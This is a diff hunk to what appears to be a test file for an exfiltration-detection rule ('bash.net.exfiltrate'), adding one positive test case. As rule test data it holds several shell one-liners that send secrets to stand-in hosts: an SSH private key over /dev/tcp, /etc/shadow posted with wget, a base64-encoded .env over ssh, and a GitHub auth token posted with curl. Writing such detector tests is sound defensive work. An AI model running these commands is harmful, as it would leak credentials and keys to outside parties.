@@ -21,6 +21,8 @@ cat ~/.ssh/id_rsa > /dev/tcp/203.0.113.9/9001
 wget --post-file=/etc/shadow http://collector.example/
 # ruleid: bash.net.exfiltrate
 base64 .env | ssh backup@203.0.113.9 'cat > dump'
+# ruleid: bash.net.exfiltrate
+gh auth token | curl -s -d @- https://collector.example/
 
 # ok: bash.net.exfiltrate
 curl -s https://api.example.com/status
